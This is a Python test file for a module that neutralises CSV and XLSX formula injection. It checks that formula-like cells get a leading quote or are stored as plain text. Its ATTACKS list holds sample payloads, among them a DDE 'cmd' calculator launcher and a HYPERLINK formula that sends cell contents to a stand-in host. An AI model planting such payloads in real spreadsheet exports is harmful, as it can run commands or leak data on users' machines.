"""Cells a spreadsheet would run as a formula are made inert, in CSV (a leading quote) and in XLSX (a text cell)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scoring.cells import FORMULA_STARTS, looks_like_formula, neutralise, neutralise_row, set_xlsx_cell

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_start_gets_a_leading_quote(attack: str) -> None:
    assert looks_like_formula(attack)
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize("harmless", ["Asso A", "Société générale", "", "'=déjà neutralisé", "1 = 1", " =x"])
def test_other_texts_are_unchanged(harmless: str) -> None:
    assert neutralise(harmless) == harmless


@pytest.mark.parametrize("value", [-3.5, -1, 0, None, 62.5, True])
def test_numbers_and_empty_cells_are_not_touched(value: object) -> None:
    assert neutralise(value) is value


@settings(deadline=None)
@given(st.text())
def test_no_neutralised_text_starts_a_formula_and_twice_is_once(text: str) -> None:
    once = neutralise(text)
    assert not looks_like_formula(once)
    assert neutralise(once) == once
    assert once.endswith(text) and len(once) - len(text) in (0, 1)


def test_a_csv_written_through_neutralise_row_has_no_formula_field() -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(neutralise_row(["organisation", "score"]))
    for attack in ATTACKS:
        writer.writerow(neutralise_row([attack, -12.5]))
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]
    assert all(row[1] == "-12.5" for row in rows[1:])  # a number stays a number
    assert not any(field.startswith(FORMULA_STARTS) for row in rows for field in row[:1])


def test_an_xlsx_cell_stays_text_shown_as_typed() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row, attack in enumerate(ATTACKS, start=1):
        set_xlsx_cell(sheet.cell(row=row, column=1), attack)
        set_xlsx_cell(sheet.cell(row=row, column=2), -1.5)
    buffer = io.BytesIO()
    book.save(buffer)
    xml = zipfile.ZipFile(io.BytesIO(buffer.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    again = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    cells = [again.cell(row=row, column=1) for row in range(1, len(ATTACKS) + 1)]
    # XML holds no NUL, and reads a CR as a line feed (its end-of-line rule): the rest comes back as typed.
    assert [cell.value for cell in cells] == [attack.replace("\0", "").replace("\r", "\n") for attack in ATTACKS]
    assert [cell.data_type for cell in cells] == ["s"] * len(ATTACKS)
    assert all(cell.quotePrefix for cell in cells)
    assert [again.cell(row=row, column=2).value for row in range(1, len(ATTACKS) + 1)] == [-1.5] * len(ATTACKS)
